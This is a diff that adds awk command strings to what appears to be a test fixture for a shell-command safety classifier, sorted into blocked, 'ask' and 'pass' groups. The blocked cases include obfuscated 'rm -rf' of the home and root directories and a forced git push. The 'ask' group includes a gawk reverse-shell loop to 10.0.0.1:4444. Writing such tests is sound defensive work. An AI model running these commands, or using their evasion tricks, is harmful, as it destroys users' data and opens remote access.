@@ -31,10 +31,30 @@ awk '{system(c)}' c='rm -rf ~' f
 awk 'BEGIN{system("r" "m" " -r" "f /")}'
 mawk 'BEGIN { cmd = "\162m -rf ~" ; system(cmd) }'
 awk "BEGIN{a=\"git push\"; system(a \" -f\")}"
+awk 'BEGIN{print "rm -rf ~" | "sh"}'
+awk 'BEGIN{c="s" "h"; print "rm -rf ~" | c}'
+awk -v c=sh 'BEGIN{print "rm -rf ~" | c}'
+awk 'BEGIN{print "rm", "-rf", "~" | "bash"}'
+awk 'BEGIN{c="rm -rf "; d="~"; while (((c d) | getline x) > 0) n++}'
+awk 'BEGIN{a="rm"; if ((c = a " -rf /") && /x|y/) system(c)}'
+awk 'BEGIN{printf "rm -rf %s\n", "/" | "sudo sh"}'
+awk 'BEGIN{printf("%s -rf ~", "rm") | "/bin/sh -s"}'
+gawk 'BEGIN{print "git push --force" |& "sh"}'
+echo 'rm -rf ~' | awk '{print | "sh"}'
+echo 'rm -rf ~' | awk '{print $0 | "sh"}'
 `,
     ask: String.raw`
 cat jobs.txt | awk '{system($0)}'
 make -n | awk '{ $0 | getline }'
+awk '{print $2 | "sh"}' f
+awk '{print "mv " $1 " " $2 | "sh"}' names
+awk '{print | "sudo sh"}' jobs
+awk '{print "x" | $1}' f
+awk '{c=$2; c | getline d; print d}' f
+awk '{system($2 " " $3)}' f
+gawk 'BEGIN{s="/inet/tcp/0/10.0.0.1/4444"; while (1) {s |& getline c; while ((c |& getline r) > 0) print r |& s}}'
+awk 'function f(c) {system(c)} {f($1)}' f
+awk 'BEGIN{system("sh -c \"$(cat f)\"")}'
 `,
     pass: String.raw`
 awk 'BEGIN{c="ls"; system(c " -la")}'
@@ -63,6 +83,25 @@ awk '{print > "out.txt"}' f
 awk 'BEGIN{while(("ls" | getline f)>0) print f}'
 gawk --assign c=3 '{print c*$1}' f
 awk '{gsub(/"/,"",$2); print $2}' f | sort
+awk '{print "rm", $1 | "cat"}' f
+awk '/foo|bar/ {print $1}' f
+awk '/a[/|]b/ || $1 ~ /x|y/ {n++} END {print n/2 | "cat"}' f
+awk '{split($0, a, /[|,]/); print a[1]}' f
+awk '$2 / 3 > 1 || $3 / 4 > 1 {print $1 | "sort"}' f
+awk -F'|' '{print $1 "|" $2}' f
+awk 'BEGIN{"hostname" | getline h; close("hostname")} {print h, $0}' f
+awk '{while (("ls " $1) | getline line) n++} END {print n}' f
+awk '{print | "gzip > " FILENAME ".gz"}' f
+awk '{printf "%d\n", ($1 || $2)}' f
+awk 'function max(a, b) {return a > b || !b ? a : b} {m = max(m, $1)} END {print m}' f
+awk 'BEGIN{print "date" | "sh"}'
+awk '{print $2 | "sort -k" n}' n=2 f
+awk '{print "a" | (dir "/tool")}' dir=/opt f
+awk '{printf "%s\n", $1 | "tee " out}' out=x f
+awk '{"date -d @" $1 | getline d; print d}' f
+awk '{cmd = sprintf("date -d %s", $1); cmd | getline d; print d}' f
+gawk '{print $1 |& "sort"; close("sort", "to"); "sort" |& getline x; print x}' f
+awk '{print > $1 ".txt"}' f
 `,
   },
   {
